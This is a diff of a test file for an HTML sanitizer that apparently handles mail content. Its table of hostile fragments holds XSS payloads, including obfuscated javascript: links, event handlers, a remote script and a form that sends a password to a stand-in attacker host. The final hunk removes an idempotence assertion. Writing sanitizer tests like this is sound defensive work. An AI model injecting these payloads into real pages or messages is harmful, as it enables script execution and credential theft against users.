@@ -65,12 +65,14 @@ def unsafe_parts(html: str) -> list[str]:
 
 HOSTILE = {
     "script": '<p>Hi<script>alert(1)</script></p><script src="https://evil.example/x.js"></script>',
-    "script in svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "script in svg": ("<svg><script>alert(1)</script>"
+                      "<a xlink:href='javascript:alert(1)'>x</a></svg>"),
     "script in math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
     "event handlers": ('<img src="cid:a@mailer" onerror="alert(1)" onload=alert(2)>'
                        '<p onclick="steal()" onmouseover=\'x()\'>p</p><body onload=alert(3)>'),
     "javascript href": '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>',
-    "javascript hidden": ('<a href="java\tscript:alert(1)">a</a><a href=" javascript:alert(1)">b</a>'
+    "javascript hidden": ('<a href="java\tscript:alert(1)">a</a>'
+                          '<a href=" javascript:alert(1)">b</a>'
                           '<a href="&#106;avascript:alert(1)">c</a>'
                           '<a href="&#x6A;&#x61;vascript&colon;alert(1)">d</a>'
                           '<a href="\x01javascript:alert(1)">e</a>'),
@@ -84,12 +86,15 @@ HOSTILE = {
                         '<div style="position:fixed;inset:0;z-index:9999">over the page</div>'
                         '<img src="cid:a@mailer" style="width:expression(alert(1))">'),
     "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>',
-    "frames and plugins": ('<iframe src="https://evil.example" srcdoc="<script>x</script>"></iframe>'
+    "frames and plugins": ('<iframe src="https://evil.example" srcdoc="<script>x</script>">'
+                           '</iframe>'
                            '<object data="x.swf"></object><embed src="x.swf"><applet code=x>'),
     "forms": ('<form action="https://evil.example/steal"><input name="password">'
               '<button formaction="javascript:alert(1)">Go</button></form>'),
-    "meta and base": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
-    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "meta and base": ('<meta http-equiv="refresh" content="0;url=https://evil.example">'
+                      '<base href="https://evil.example/">'),
+    "noscript confusion": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
+                           '</noscript>'),
     "comment confusion": '<!--<img src="--><img src=x onerror=alert(1)//">-->',
     "template": '<template><img src=x onerror=alert(1)></template>',
     "classes and ids": '<p class="alert alert-danger" id="compose">looks like the app</p>',
@@ -122,7 +127,8 @@ def test_what_the_editor_writes_survives_whole():
 
 
 def test_cid_pictures_stay_and_their_unsafe_attributes_go():
-    clean = sanitize_html('<img src="cid:0123456789ab@mailer" onerror="x()" style="a:b" alt="Logo">')
+    clean = sanitize_html('<img src="cid:0123456789ab@mailer" onerror="x()" style="a:b" '
+                          'alt="Logo">')
     assert clean == '<img src="cid:0123456789ab@mailer" alt="Logo">'
 
 
@@ -135,4 +141,3 @@ FRAGMENTS = list(HOSTILE.values()) + ["<p>", "</p>", "<b>", "text", "<ul><li>", 
 def test_hostile_fragments_mixed_in_any_order_leave_nothing_unsafe(pieces):
     clean = sanitize_html("".join(pieces))
     assert unsafe_parts(clean) == [], clean
-    assert sanitize_html(clean) == clean  # sanitizing twice changes nothing more
